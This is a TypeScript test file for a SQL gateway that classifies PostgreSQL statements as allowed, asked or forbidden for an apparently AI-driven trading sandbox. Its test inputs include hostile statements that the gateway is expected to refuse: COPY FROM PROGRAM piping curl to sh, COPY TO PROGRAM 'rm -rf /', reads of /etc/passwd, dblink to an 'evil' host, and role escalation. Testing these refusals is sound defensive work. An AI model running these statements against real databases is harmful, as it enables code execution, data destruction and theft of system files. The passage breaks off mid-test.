/**
 * The PostgreSQL statement corpus: each statement with the verdict
 * (`decision ruleId`) the gateway must reach in every mode. A case gives
 * `all` (every mode), or `tb` (test and backtest) and `paper`, or a mode by
 * name; every case must resolve for every mode.
 */
import { beforeAll, describe, expect, it, vi } from "vitest";
import {
  DEFAULT_SQL_RULES,
  classifySql,
  initSqlParser,
  rememberPrepared,
  sqlRulesSchema,
  type SqlMode,
  type SqlVerdict,
} from "../../src/db/index.js";

type Expect = `${"allow" | "ask" | "forbid"} db.${string}`;
interface Case {
  sql: string;
  all?: Expect;
  tb?: Expect;
  test?: Expect;
  backtest?: Expect;
  paper?: Expect;
}

const MODES: SqlMode[] = ["test", "backtest", "paper"];

const READ: Expect = "allow db.read-only";
const SANDBOX: Expect = "allow db.sandbox";
const PAPER_OK: Expect = "allow db.paper-prefix";
const PAPER_NO: Expect = "forbid db.paper-prefix";
const DENIED: Expect = "forbid db.denied-function";
const ALPHA: Expect = "ask db.alpha-marker";
const SCHEMA: Expect = "ask db.schema-safety";
const PROTECTED: Expect = "forbid db.protected-setting";

/** a write: fixture work in test/backtest, refused in paper (production is read-only) */
const prodWrite = { tb: SANDBOX, paper: PAPER_NO } as const;
/** a write to a paper table: allowed everywhere */
const paperWrite = { tb: SANDBOX, paper: PAPER_OK } as const;

const corpus: Case[] = [
  // SKILLS.md §3 "Allowed queries" — PostgreSQL, in every mode
  { sql: "SELECT * FROM orders WHERE status = 'pending' LIMIT 50", all: READ },
  { sql: "SELECT * FROM fills WHERE timestamp > NOW() - INTERVAL '1 hour'", all: READ },
  { sql: "SELECT COUNT(*) FROM signals WHERE processed = false", all: READ },
  { sql: "SELECT * FROM positions WHERE closed_at IS NULL", all: READ },
  // SKILLS.md §3 QuestDB examples that are also PostgreSQL
  { sql: "SELECT COUNT(*) FROM candles WHERE symbol = 'BTC-USD'", all: READ },
  { sql: "SELECT symbol, COUNT(*) FROM candles GROUP BY symbol", all: READ },
  { sql: "SHOW TABLES", all: READ },
  // QuestDB's `1h` is not PostgreSQL: the gateway routes QuestDB to classifyQuestDb
  { sql: "SELECT * FROM candles WHERE timestamp > now() - 1h LIMIT 100", all: "forbid db.parse" },

  // system performance and data quality (SKILLS.md §3 "Allowed analysis")
  { sql: "SELECT avg(latency_ms), max(latency_ms) FROM order_events WHERE created_at > now() - interval '1 hour'", all: READ },
  { sql: "SELECT percentile_cont(0.95) WITHIN GROUP (ORDER BY latency_ms) FROM order_events", all: READ },
  { sql: "SELECT date_trunc('minute', ts) AS m, count(*) FROM fills GROUP BY 1 ORDER BY 1 DESC LIMIT 60", all: READ },
  { sql: "SELECT count(*) FILTER (WHERE close IS NULL) AS null_closes FROM candles", all: READ },
  { sql: "SELECT order_id, count(*) FROM fills GROUP BY order_id HAVING count(*) > 1", all: READ },
  { sql: "SELECT symbol, min(ts), max(ts) FROM candles GROUP BY symbol", all: READ },
  { sql: "WITH recent AS (SELECT * FROM orders WHERE created_at > now() - interval '1 day') SELECT status, count(*) FROM recent GROUP BY status", all: READ },
  { sql: "SELECT o.id FROM orders o LEFT JOIN fills f ON f.order_id = o.id WHERE f.id IS NULL LIMIT 50", all: READ },
  { sql: "SELECT * FROM orders o, LATERAL (SELECT * FROM fills f WHERE f.order_id = o.id LIMIT 1) f1 LIMIT 10", all: READ },
  { sql: "VALUES (1), (2)", all: READ },
  { sql: "TABLE positions", all: READ },
  { sql: "SELECT current_setting('statement_timeout')", all: READ },
  { sql: "SELECT pid, state, query_start FROM pg_stat_activity", all: READ },
  { sql: "SHOW statement_timeout", all: READ },
  { sql: "SELECT 'pg_sleep(10); DELETE FROM orders' AS not_code", all: READ },
  { sql: "SELECT 1 -- ; DELETE FROM orders", all: READ },
  { sql: "/* DROP TABLE orders; */ SELECT 1", all: READ },
  { sql: "SELECT $$; DROP TABLE orders; $$ AS dollar_quoted", all: READ },

  // EXPLAIN: plans unless ANALYZE runs it
  { sql: "EXPLAIN SELECT * FROM orders", all: READ },
  { sql: "EXPLAIN ANALYZE SELECT * FROM orders LIMIT 10", all: READ },
  { sql: "EXPLAIN (ANALYZE, BUFFERS, FORMAT JSON) SELECT 1", all: READ },
  { sql: "EXPLAIN DELETE FROM orders", all: READ },
  { sql: "EXPLAIN (ANALYZE false) DELETE FROM orders", all: READ },
  { sql: "EXPLAIN ANALYZE DELETE FROM orders", ...prodWrite },
  { sql: "EXPLAIN ANALYSE DELETE FROM orders", ...prodWrite },
  { sql: "EXPLAIN (ANALYZE, FORMAT JSON) UPDATE orders SET status = 'x'", ...prodWrite },
  { sql: "EXPLAIN SELECT pg_sleep(10)", all: DENIED },

  // writes hidden inside reads
  { sql: "WITH d AS (DELETE FROM orders RETURNING *) SELECT count(*) FROM d", ...prodWrite },
  { sql: "WITH u AS (UPDATE positions SET closed_at = now() RETURNING id) SELECT * FROM u", ...prodWrite },
  { sql: "SELECT * FROM (WITH i AS (INSERT INTO orders VALUES (1) RETURNING id) SELECT * FROM i) s", ...prodWrite },
  { sql: "WITH d AS (DELETE FROM paper_orders RETURNING *) SELECT * FROM d", ...paperWrite },
  { sql: "SELECT * INTO orders_copy FROM orders", ...prodWrite },
  { sql: "SELECT * INTO paper_orders_copy FROM orders", ...paperWrite },
  { sql: "SELECT * INTO orders_copy FROM orders UNION SELECT * FROM orders", ...prodWrite },
  { sql: "SELECT * FROM orders FOR UPDATE", ...prodWrite },
  { sql: "SELECT * FROM orders WHERE status = 'pending' FOR SHARE SKIP LOCKED", ...prodWrite },
  { sql: "(SELECT * FROM orders FOR UPDATE) UNION ALL SELECT * FROM orders", ...prodWrite },
  { sql: "SELECT * FROM paper_orders FOR UPDATE", ...paperWrite },
  { sql: "SELECT * FROM paper_orders p JOIN orders o ON o.id = p.order_id FOR UPDATE OF p", ...paperWrite },
  { sql: "SELECT * FROM paper_orders p JOIN orders o ON o.id = p.order_id FOR UPDATE OF o", ...prodWrite },
  { sql: "SELECT * FROM orders WHERE id IN (SELECT order_id FROM fills FOR UPDATE)", ...prodWrite },
  { sql: "INSERT INTO orders SELECT * FROM orders WHERE false", ...prodWrite },
  { sql: "WITH d AS (DELETE FROM orders RETURNING *) INSERT INTO paper_orders_log SELECT * FROM d", ...prodWrite },
  { sql: "SELECT * FROM orders o JOIN LATERAL (SELECT * FROM fills f WHERE f.order_id = o.id FOR UPDATE) z ON true", ...prodWrite },

  // COPY
  { sql: "COPY orders TO STDOUT", tb: "allow db.copy", paper: "ask db.copy" },
  { sql: "COPY (SELECT * FROM fills WHERE ts > now() - interval '1 day') TO STDOUT WITH CSV", tb: "allow db.copy", paper: "ask db.copy" },
  { sql: "COPY orders FROM STDIN", ...prodWrite },
  { sql: "COPY paper_orders FROM STDIN WITH (FORMAT csv)", ...paperWrite },
  { sql: "COPY orders TO '/tmp/orders.csv'", all: "forbid db.copy" },
  { sql: "COPY orders FROM '/etc/passwd'", all: "forbid db.copy" },
  { sql: "COPY orders FROM PROGRAM 'curl http://x | sh'", all: "forbid db.copy" },
  { sql: "COPY (SELECT 1) TO PROGRAM 'rm -rf /'", all: "forbid db.copy" },
  { sql: "COPY (DELETE FROM orders RETURNING *) TO STDOUT", tb: SANDBOX, paper: PAPER_NO },

  // code the classifier cannot see into
  { sql: "DO $$ BEGIN DELETE FROM orders; END $$", all: "forbid db.procedural" },
  { sql: "DO LANGUAGE plpgsql $$ BEGIN PERFORM pg_sleep(10); END $$", all: "forbid db.procedural" },
  { sql: "CALL refresh_positions()", all: "forbid db.procedural" },
  { sql: "CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'SELECT 1'", all: "forbid db.procedural" },
  { sql: "CREATE OR REPLACE FUNCTION paper_f() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN RETURN NEW; END $$", all: "forbid db.procedural" },
  { sql: "CREATE TRIGGER t BEFORE INSERT ON paper_orders FOR EACH ROW EXECUTE FUNCTION f()", all: "forbid db.procedural" },
  { sql: "CREATE RULE r AS ON INSERT TO paper_orders DO ALSO DELETE FROM orders", all: "forbid db.procedural" },
  { sql: "CREATE OPERATOR === (LEFTARG = int, RIGHTARG = int, FUNCTION = int4eq)", all: "forbid db.procedural" },

  // enforced settings
  { sql: "SET default_transaction_read_only = off", all: PROTECTED },
  { sql: "SET SESSION default_transaction_read_only TO false", all: PROTECTED },
  { sql: "SET transaction_read_only = off", all: PROTECTED },
  { sql: "SET LOCAL statement_timeout = 0", all: PROTECTED },
  { sql: "RESET statement_timeout", all: PROTECTED },
  { sql: "SET statement_timeout TO DEFAULT", all: PROTECTED },
  { sql: "SET standard_conforming_strings = off", all: PROTECTED },
  { sql: "SET SESSION AUTHORIZATION postgres", all: PROTECTED },
  { sql: "RESET SESSION AUTHORIZATION", all: PROTECTED },
  { sql: "SET ROLE admin", all: PROTECTED },
  { sql: "RESET ROLE", all: PROTECTED },
  { sql: "RESET ALL", all: PROTECTED },
  { sql: "SET NAMES 'SJIS'", all: PROTECTED },
  { sql: "SET client_encoding = 'GBK'", all: PROTECTED },
  { sql: "DISCARD ALL", all: PROTECTED },
  { sql: "UPDATE pg_settings SET setting = '0' WHERE name = 'statement_timeout'", all: PROTECTED },
  { sql: "SELECT set_config('default_transaction_read_only', 'off', false)", all: DENIED },
  { sql: "SELECT * FROM orders WHERE id IN (SELECT 1 WHERE set_config('statement_timeout', '0', true) IS NOT NULL)", all: DENIED },
  // settings are an allowlist (client formats, name resolution): everything else is the gateway's or the server's
  { sql: "SET idle_in_transaction_session_timeout = 0", all: PROTECTED },
  { sql: "SET idle_session_timeout = 0", all: PROTECTED },
  { sql: "SET lock_timeout = 0", all: PROTECTED },
  { sql: "SET work_mem = '2GB'", all: PROTECTED },
  { sql: "SET LOCAL hash_mem_multiplier = 100", all: PROTECTED },
  { sql: "SET max_parallel_workers_per_gather = 64", all: PROTECTED },
  { sql: "SET application_name = 'trading-engine'", all: PROTECTED },
  { sql: "SET SESSION application_name TO 'sandboxd-gateway'", all: PROTECTED },
  { sql: "RESET application_name", all: PROTECTED },
  { sql: "SET enable_seqscan = off", all: PROTECTED },
  { sql: "SET DateStyle = 'ISO, MDY'", all: "allow db.session" },
  { sql: "SET extra_float_digits = 3", all: "allow db.session" },
  { sql: "RESET search_path", all: "allow db.session" },
  { sql: "SET search_path = public, pg_catalog", all: "allow db.session" },
  { sql: "SET TIME ZONE 'UTC'", all: "allow db.session" },
  { sql: "DISCARD PLANS", all: "allow db.session" },

  // transactions
  { sql: "BEGIN", all: "allow db.transaction" },
  { sql: "BEGIN READ ONLY", all: "allow db.transaction" },
  { sql: "SAVEPOINT a; ROLLBACK TO SAVEPOINT a; RELEASE SAVEPOINT a", all: "allow db.transaction" },
  { sql: "COMMIT", all: "allow db.transaction" },
  { sql: "BEGIN READ WRITE", all: "forbid db.read-only" },
  { sql: "START TRANSACTION ISOLATION LEVEL SERIALIZABLE, READ WRITE", all: "forbid db.read-only" },
  { sql: "SET TRANSACTION READ WRITE", all: "forbid db.read-only" },
  { sql: "SET SESSION CHARACTERISTICS AS TRANSACTION READ WRITE", all: "forbid db.read-only" },
  { sql: "SET TRANSACTION ISOLATION LEVEL REPEATABLE READ", all: "allow db.session" },
  { sql: "PREPARE TRANSACTION 'x'", all: "forbid db.transaction" },

  // denied functions, however they are spelt and wherever they hide
  { sql: "SELECT pg_catalog.pg_sleep(1)", all: DENIED },
  { sql: 'SELECT "pg_sleep"(1)', all: DENIED },
  { sql: 'SELECT "pg_catalog"."pg_sleep"(1)', all: DENIED },
  { sql: "SELECT PG_SLEEP(1)", all: DENIED },
  { sql: "SELECT U&\"pg\\005fsleep\"(1)", all: DENIED },
  { sql: "SELECT pg_sleep_for('5 minutes')", all: DENIED },
  { sql: "SELECT * FROM orders WHERE pg_sleep(1) IS NOT NULL", all: DENIED },
  { sql: "SELECT * FROM orders ORDER BY pg_sleep(0.1)", all: DENIED },
  { sql: "SELECT * FROM pg_sleep(1)", all: DENIED },
  { sql: "SELECT array(SELECT pg_sleep(1) FROM generate_series(1, 3))", all: DENIED },
  { sql: "SELECT coalesce(NULL, (SELECT pg_catalog.pg_sleep(1))::text)", all: DENIED },
  { sql: "SELECT * FROM orders o, LATERAL (SELECT pg_sleep(1)) z", all: DENIED },
  { sql: "SELECT * FROM (VALUES (pg_sleep(1))) v", all: DENIED },
  { sql: "SELECT lo_import('/etc/passwd')", all: DENIED },
  { sql: "SELECT lo_export(12345, '/tmp/x')", all: DENIED },
  { sql: "SELECT * FROM dblink('host=evil', 'SELECT 1') AS t(x int)", all: DENIED },
  { sql: "SELECT dblink_exec('dbname=prod', 'DELETE FROM orders')", all: DENIED },
  { sql: "SELECT nextval('orders_id_seq')", all: DENIED },
  { sql: "SELECT setval('orders_id_seq', 1)", all: DENIED },
  { sql: "INSERT INTO paper_orders (id) VALUES (nextval('paper_orders_id_seq'))", all: DENIED },
  { sql: "SELECT pg_advisory_lock(42)", all: DENIED },
  { sql: "SELECT pg_try_advisory_xact_lock(42)", all: DENIED },
  { sql: "SELECT pg_notify('orders', 'x')", all: DENIED },
  { sql: "SELECT pg_terminate_backend(pid) FROM pg_stat_activity", all: DENIED },
  { sql: "SELECT pg_cancel_backend(123)", all: DENIED },
  { sql: "SELECT pg_reload_conf()", all: DENIED },
  { sql: "SELECT pg_read_file('/etc/passwd')", all: DENIED },
  { sql: "SELECT * FROM pg_ls_dir('.')", all: DENIED },
  { sql: "SELECT query_to_xml('DELETE FROM orders RETURNING 1', true, false, '')", all: DENIED },
  { sql: "CREATE TABLE fixture_t (id int DEFAULT nextval('s'))", all: DENIED },

  // multi-statement strings: judged statement by statement, strictest wins
  { sql: "SELECT 1; DELETE FROM orders", ...prodWrite },
  { sql: "DELETE FROM orders; SELECT 1", ...prodWrite },
  { sql: "SELECT 1; SELECT pg_sleep(5)", all: DENIED },
  { sql: "SELECT stddev(qty) FROM fills; SELECT pg_sleep(1)", all: DENIED },
  { sql: "INSERT INTO paper_orders VALUES (1); INSERT INTO orders VALUES (1)", ...prodWrite },

  // SQL-level PREPARE / EXECUTE
  { sql: "PREPARE p AS DELETE FROM orders", ...prodWrite },
  { sql: "PREPARE p AS SELECT * FROM orders WHERE id = $1", all: READ },
  { sql: "EXECUTE p(1)", all: "forbid db.execute" },
  { sql: "PREPARE q AS DELETE FROM orders; EXECUTE q", ...prodWrite },
  { sql: "PREPARE r AS SELECT 1; EXECUTE r", all: READ },
  { sql: "PREPARE r AS SELECT 1; DEALLOCATE r; EXECUTE r", all: "forbid db.execute" },
  { sql: "EXPLAIN ANALYZE EXECUTE p", all: "forbid db.execute" },
  { sql: "CREATE TABLE t AS EXECUTE p", all: "forbid db.execute" },
  { sql: "DEALLOCATE ALL", all: "allow db.session" },

  // anti-alpha-mining markers
  { sql: "SELECT stddev(pnl) FROM fills", all: ALPHA },
  { sql: "SELECT corr(signal_strength, return_1h) FROM signals", all: ALPHA },
  { sql: "SELECT regr_slope(y, x) FROM candles", all: ALPHA },
  { sql: "SELECT * FROM orders WHERE qty > (SELECT stddev_samp(qty) FROM fills)", all: ALPHA },
  { sql: "SELECT var_pop(close), covar_samp(close, volume) FROM candles", all: ALPHA },
  { sql: "SELECT variance(latency_ms) FROM order_events", all: ALPHA },
  { sql: "SELECT pg_catalog.stddev(close) FROM candles", all: ALPHA },
  { sql: "SELECT s.id, sum(f.qty * f.price) FROM signals s JOIN fills f ON f.signal_id = s.id GROUP BY s.id", all: ALPHA },
  { sql: "SELECT * FROM fills WHERE signal_id IN (SELECT id FROM signals WHERE strength > 0.8)", all: ALPHA },
  { sql: "SELECT * FROM paper_signals s JOIN paper_fills f ON f.signal_id = s.id", all: ALPHA },

  // paper mode: production read-only, writes only to paper_ tables (from the parse tree)
  { sql: "INSERT INTO paper_orders (symbol, qty) VALUES ('BTC-USD', 1)", ...paperWrite },
  { sql: "INSERT INTO orders (symbol, qty) VALUES ('BTC-USD', 1)", ...prodWrite },
  { sql: "INSERT INTO paper_orders SELECT * FROM orders WHERE status = 'pending'", ...paperWrite },
  { sql: "UPDATE paper_positions p SET qty = o.qty FROM orders o WHERE o.id = p.order_id", ...paperWrite },
  { sql: "DELETE FROM public.orders", ...prodWrite },
  { sql: "DELETE FROM public.paper_orders WHERE id = 1", ...paperWrite },
  { sql: 'INSERT INTO "PAPER_orders" VALUES (1)', ...prodWrite },
  { sql: "INSERT INTO PAPER_orders VALUES (1)", ...paperWrite },
  { sql: 'INSERT INTO "paper_orders" VALUES (1)', ...paperWrite },
  { sql: "INSERT INTO \"paper_orders; DELETE FROM orders\" VALUES (1)", ...paperWrite },
  { sql: "UPDATE orders SET status = 'x' WHERE id IN (SELECT id FROM paper_orders)", ...prodWrite },
  { sql: "INSERT INTO paper_orders VALUES (1) ON CONFLICT (id) DO UPDATE SET qty = excluded.qty", ...paperWrite },
  { sql: "MERGE INTO paper_positions p USING fills f ON f.order_id = p.order_id WHEN MATCHED THEN UPDATE SET qty = f.qty", ...paperWrite },
  { sql: "MERGE INTO positions p USING paper_fills f ON f.order_id = p.order_id WHEN NOT MATCHED THEN INSERT VALUES (f.order_id)", ...prodWrite },
  { sql: "WITH x AS (INSERT INTO paper_orders VALUES (1) RETURNING id) UPDATE orders SET status = 'x' WHERE id IN (SELECT id FROM x)", ...prodWrite },
  { sql: "DELETE FROM pg_catalog.pg_class", all: "forbid db.admin" },

  // schema safety: DROP TABLE and destructive ALTER TABLE need a human, in every mode
  { sql: "DROP TABLE fixture_orders", tb: SCHEMA, paper: PAPER_NO },
  { sql: "DROP TABLE IF EXISTS paper_orders", all: SCHEMA },
  { sql: "DROP TABLE paper_a, orders CASCADE", tb: SCHEMA, paper: PAPER_NO },
  { sql: "DROP INDEX fixture_orders_status_idx", tb: SCHEMA, paper: PAPER_NO },
  { sql: "DROP SCHEMA public CASCADE", tb: SCHEMA, paper: PAPER_NO },
  { sql: "ALTER TABLE orders DROP COLUMN notes", tb: SCHEMA, paper: PAPER_NO },
  { sql: "ALTER TABLE paper_orders DROP COLUMN notes", all: SCHEMA },
  { sql: "ALTER TABLE orders ALTER COLUMN qty TYPE bigint", tb: SCHEMA, paper: PAPER_NO },
  { sql: "ALTER TABLE paper_orders ALTER COLUMN qty TYPE bigint", all: SCHEMA },
  { sql: "ALTER TABLE paper_orders ADD COLUMN note text, DROP COLUMN old_note", all: SCHEMA },
  { sql: "ALTER TABLE paper_orders RENAME TO orders", all: SCHEMA },
  { sql: "ALTER TABLE orders RENAME COLUMN qty TO quantity", tb: SCHEMA, paper: PAPER_NO },
  { sql: "ALTER TABLE fixture_orders ADD COLUMN note text", ...prodWrite },
  { sql: "ALTER TABLE paper_orders ADD COLUMN note text", ...paperWrite },

  // non-destructive DDL: fixtures in test/backtest, paper tables only in paper
  { sql: "CREATE TABLE fixture_orders (id serial PRIMARY KEY, qty int)", ...prodWrite },
  { sql: "CREATE TABLE paper_trades (id bigint, qty numeric)", ...paperWrite },
  { sql: "CREATE TEMP TABLE scratch AS SELECT * FROM orders LIMIT 10", ...prodWrite },
  { sql: "CREATE INDEX ON orders (status)", ...prodWrite },
  { sql: "CREATE INDEX ON paper_orders (status)", ...paperWrite },
  { sql: "CREATE TABLE paper_fills (order_id int REFERENCES orders(id))", ...prodWrite },
  { sql: "CREATE TABLE paper_orders_2024 PARTITION OF orders FOR VALUES FROM ('2024-01-01') TO ('2025-01-01')", ...prodWrite },
  { sql: "CREATE VIEW v AS SELECT * FROM orders", ...prodWrite },
  // a paper_ name must stand for a table of its own: a view's writes reach the tables it reads
  { sql: "CREATE VIEW paper_v AS SELECT * FROM orders", tb: SANDBOX, paper: PAPER_NO },
  { sql: "CREATE TEMP VIEW paper_v AS SELECT * FROM orders", tb: SANDBOX, paper: PAPER_NO },
  { sql: "CREATE MATERIALIZED VIEW paper_mv AS SELECT * FROM orders", tb: SANDBOX, paper: PAPER_NO },
  { sql: "CREATE SCHEMA scratch", ...prodWrite },
  { sql: "CREATE SCHEMA scratch CREATE TABLE paper_t (id int)", ...prodWrite },
  { sql: "ALTER TABLE paper_orders ADD CONSTRAINT fk FOREIGN KEY (order_id) REFERENCES orders(id)", ...prodWrite },
  { sql: "SET CONSTRAINTS ALL DEFERRED", all: "allow db.transaction" },
  { sql: "TRUNCATE fixture_orders", ...prodWrite },
  { sql: "TRUNCATE paper_orders", ...paperWrite },
  { sql: "TRUNCATE paper_orders CASCADE", tb: SANDBOX, paper: "ask db.paper-prefix" },
  { sql: "COMMENT ON TABLE orders IS 'x'", ...prodWrite },
  { sql: "REFRESH MATERIALIZED VIEW daily_pnl", ...prodWrite },

  // maintenance and locks are writes too
  { sql: "VACUUM", ...prodWrite },
  { sql: "VACUUM ANALYZE orders", ...prodWrite },
  { sql: "VACUUM paper_orders", ...paperWrite },
  { sql: "ANALYZE orders", ...prodWrite },
  { sql: "CLUSTER orders USING orders_pkey", ...prodWrite },
  { sql: "REINDEX TABLE orders", ...prodWrite },
  { sql: "LOCK TABLE orders IN ACCESS EXCLUSIVE MODE", ...prodWrite },

  // administration: never
  { sql: "GRANT ALL ON orders TO agent", all: "forbid db.admin" },
  { sql: "REVOKE SELECT ON orders FROM PUBLIC", all: "forbid db.admin" },
  { sql: "CREATE ROLE agent2 SUPERUSER", all: "forbid db.admin" },
  { sql: "ALTER SYSTEM SET statement_timeout = 0", all: "forbid db.admin" },
  { sql: "ALTER DATABASE trading SET default_transaction_read_only = off", all: "forbid db.admin" },
  { sql: "ALTER ROLE agent SET statement_timeout = 0", all: "forbid db.admin" },
  { sql: "CREATE EXTENSION dblink", all: "forbid db.admin" },
  { sql: "CREATE SERVER prod FOREIGN DATA WRAPPER postgres_fdw", all: "forbid db.admin" },
  { sql: "LOAD 'evil.so'", all: "forbid db.admin" },
  { sql: "CHECKPOINT", all: "forbid db.admin" },

  // notifications and cursors
  { sql: "LISTEN order_events", all: "allow db.session" },
  { sql: "UNLISTEN *", all: "allow db.session" },
  { sql: "NOTIFY order_events, 'fill'", all: "forbid db.notify" },
  { sql: "DECLARE c CURSOR FOR SELECT * FROM orders", all: READ },
  { sql: "DECLARE c CURSOR FOR SELECT * FROM orders FOR UPDATE", ...prodWrite },
  { sql: "FETCH 10 FROM c", all: READ },

  // what cannot be parsed is refused; nothing is allowed
  { sql: "SELEC * FROM orders", all: "forbid db.parse" },
  { sql: "SELECT * FROM orders WHERE", all: "forbid db.parse" },
  { sql: "SELECT 'unterminated", all: "forbid db.parse" },
  { sql: "SELECT * FROM candles SAMPLE BY 1h", all: "forbid db.parse" },
  { sql: "SELECT 1\u0000; DROP TABLE orders", all: "forbid db.parse" },
  { sql: "", all: "allow db.empty" },
  { sql: "   \n\t ", all: "allow db.empty" },
  { sql: "-- just a comment", all: "allow db.empty" },
  { sql: "/* a */ -- b\n", all: "allow db.empty" },
  { sql: ";", all: "allow db.empty" },
];

function expected(c: Case, mode: SqlMode): Expect | undefined {
  return c[mode] ?? (mode !== "paper" ? c.tb : undefined) ?? c.all;
}

const got = (v: SqlVerdict) => `${v.decision} ${v.ruleId}`;

beforeAll(async () => {
  await initSqlParser();
});

describe("SQL corpus (PostgreSQL)", () => {
  it("has at least 100 statements, each with a verdict for every mode", () => {
    expect(corpus.length).toBeGreaterThanOrEqual(100);
    for (const c of corpus) for (const m of MODES) expect(expected(c, m), `${m}: ${c.sql}`).toBeDefined();
  });

  for (const mode of MODES) {
    describe(`mode ${mode}`, () => {
      it.each(corpus.map((c) => [c.sql.length > 100 ? `${c.sql.slice(0, 100)}…` : c.sql, c] as const))("%s", (_name, c) => {
        const v = classifySql(c.sql, { mode });
        expect(got(v), v.reason).toBe(expected(c, mode));
        expect(v.clause).toMatch(/^SKILLS\.md /);
        expect(v.reason.length).toBeGreaterThan(10);
      });
    });
  }
});

describe("verdict details", () => {
  it("names the relations read and written, from the parse tree", () => {
    const v = classifySql("INSERT INTO paper_orders SELECT * FROM orders o JOIN public.fills f ON f.order_id = o.id", { mode: "paper" });
    expect(v.statements).toEqual([
      expect.objectContaining({ kind: "insert", readOnly: false, tables: ["orders", "public.fills"], writes: ["paper_orders"], decision: "allow" }),
    ]);
    const u = classifySql("UPDATE paper_x SET a = o.a FROM orders o WHERE o.id = paper_x.id", { mode: "paper" });
    expect(u.statements[0]).toMatchObject({ kind: "update", tables: ["orders"], writes: ["paper_x"] });
    const q = classifySql('INSERT INTO "PAPER_orders" VALUES (1)', { mode: "paper" });
    expect(q.statements[0]!.writes).toEqual(['"PAPER_orders"']);
    expect(q.reason).toContain("quoted name is not folded");
  });

  it("reports kind and read-only per statement of a multi-statement string, and which one decided", () => {
    const v = classifySql("SELECT 1; DELETE FROM orders; SHOW work_mem", { mode: "paper" });
    expect(v.statements.map((s) => [s.kind, s.readOnly, s.decision])).toEqual([
      ["select", true, "allow"],
      ["delete", false, "forbid"],
      ["show", true, "allow"],
    ]);
    expect(v.reason).toMatch(/^statement 2 of 3 \(delete\): DELETE on `orders`/);
    expect(v.clause).toBe("SKILLS.md §3 Sandbox Principle");
  });

  it("names the clause and the function in a denied-function refusal", () => {
    const v = classifySql("SELECT * FROM orders WHERE id = (SELECT pg_catalog.pg_sleep(1))", { mode: "test" });
    expect(v).toMatchObject({ decision: "forbid", ruleId: "db.denied-function", clause: "SKILLS.md §3 Read-Only Default" });
    expect(v.reason).toContain("`pg_catalog.pg_sleep()`");
    expect(v.statements[0]!.readOnly).toBe(false);
  });

  it("names the clause of an alpha marker, and of schema safety", () => {
    const a = classifySql("SELECT regr_slope(y, x) FROM candles", { mode: "backtest" });
    expect(a.clause).toBe("SKILLS.md §3 Anti-Alpha-Mining Enforcement");
    expect(a.reason).toContain("`regr_slope()`");
    const s = classifySql("ALTER TABLE paper_orders DROP COLUMN notes", { mode: "paper" });
    expect(s.clause).toBe("SKILLS.md §3 Schema Safety");
    expect(s.reason).toContain("DROP COLUMN notes");
  });

  it("includes the parser's message in a parse refusal", () => {
    const v = classifySql("SELEC 1", { mode: "test" });
    expect(v).toMatchObject({ decision: "forbid", ruleId: "db.parse", statements: [] });
    expect(v.reason).toContain('syntax error at or near "SELEC"');
  });

  it("judges a 100 KB statement, allowed and refused", () => {
    const ids = Array.from({ length: 16_000 }, (_, i) => i).join(", ");
    const big = `SELECT * FROM orders WHERE id IN (${ids})`;
    expect(big.length).toBeGreaterThan(100_000);
    expect(got(classifySql(big, { mode: "paper" }))).toBe("allow db.read-only");
    expect(got(classifySql(`${big} AND pg_sleep(1) IS NOT NULL`, { mode: "paper" }))).toBe("forbid db.denied-function");
  });

  it("finds a denied function under 300 nested subqueries (the walk is iterative)", () => {
    const deep = "SELECT (".repeat(300) + "SELECT pg_sleep(1)" + ")".repeat(300);
    expect(got(classifySql(deep, { mode: "test" }))).toBe("forbid db.denied-function");
  });
});

describe("PREPARE / EXECUTE across calls", () => {
  it("judges EXECUTE as what the gateway recorded the name was prepared as", () => {
    const prepared = new Map<string, SqlVerdict>();
    const p = classifySql("PREPARE recent AS SELECT * FROM fills WHERE ts > $1", { mode: "paper" });
    expect(p.statements[0]!.prepares).toBe("recent");
    rememberPrepared(prepared, p);
    const e = classifySql("EXECUTE recent(now() - interval '1 hour')", { mode: "paper", prepared });
    expect(got(e)).toBe("allow db.read-only");
    expect(e.statements[0]!.tables).toEqual(["fills"]);
    // a refused PREPARE never reached the server, so it is not remembered
    rememberPrepared(prepared, classifySql("PREPARE wipe AS DELETE FROM orders", { mode: "paper" }));
    expect(got(classifySql("EXECUTE wipe", { mode: "paper", prepared }))).toBe("forbid db.execute");
    // DEALLOCATE forgets
    rememberPrepared(prepared, classifySql("DEALLOCATE recent", { mode: "paper" }));
    expect(got(classifySql("EXECUTE recent(now())", { mode: "paper", prepared }))).toBe("forbid db.execute");
  });

  it("carries a prepared write's verdict to EXECUTE, and still judges EXECUTE's arguments", () => {
    const prepared = new Map<string, SqlVerdict>();
    rememberPrepared(prepared, classifySql("PREPARE put AS INSERT INTO fixture_orders VALUES ($1)", { mode: "test" }));
    const e = classifySql("EXECUTE put(1)", { mode: "test", prepared });
    expect(got(e)).toBe("allow db.sandbox");
    expect(e.statements[0]).toMatchObject({ readOnly: false, writes: ["fixture_orders"] });
    expect(got(classifySql("EXECUTE put(pg_sleep(10))", { mode: "test", prepared }))).toBe("forbid db.denied-function");
  });
});

describe("rules", () => {
  it("lets a policy make alpha markers forbidden", () => {
    const rules = { alphaMarkers: { ...DEFAULT_SQL_RULES.alphaMarkers, decision: "forbid" as const } };
    const v = classifySql("SELECT stddev(latency_ms) FROM order_events", { mode: "test", rules });
    expect(got(v)).toBe("forbid db.alpha-marker");
    expect(v.reason).toContain("refused by policy");
  });

  it("uses a policy's denied functions, paper prefix and protected settings", () => {
    const rules = {
      deniedFunctions: [...DEFAULT_SQL_RULES.deniedFunctions, "refresh_*"],
      paperPrefix: "sim_",
      protectedSettings: [...DEFAULT_SQL_RULES.protectedSettings, "work_mem"],
    };
    expect(got(classifySql("SELECT public.refresh_positions()", { mode: "test", rules }))).toBe("forbid db.denied-function");
    expect(got(classifySql("INSERT INTO sim_orders VALUES (1)", { mode: "paper", rules }))).toBe("allow db.paper-prefix");
    expect(got(classifySql("INSERT INTO paper_orders VALUES (1)", { mode: "paper", rules }))).toBe("forbid db.paper-prefix");
    expect(got(classifySql("SET work_mem = '1GB'", { mode: "test", rules }))).toBe("forbid db.protected-setting");
  });

  it("validates rules at the boundary with every problem reported", () => {
    expect(sqlRulesSchema.safeParse(DEFAULT_SQL_RULES).success).toBe(true);
    const bad = sqlRulesSchema.safeParse({ paperPrefix: "", alphaMarkers: { functions: [], decision: "maybe" }, extra: 1 });
    expect(bad.success).toBe(false);
    if (!bad.success) expect(bad.error.issues.length).toBeGreaterThanOrEqual(3);
  });

  it("keeps the default rules frozen", () => {
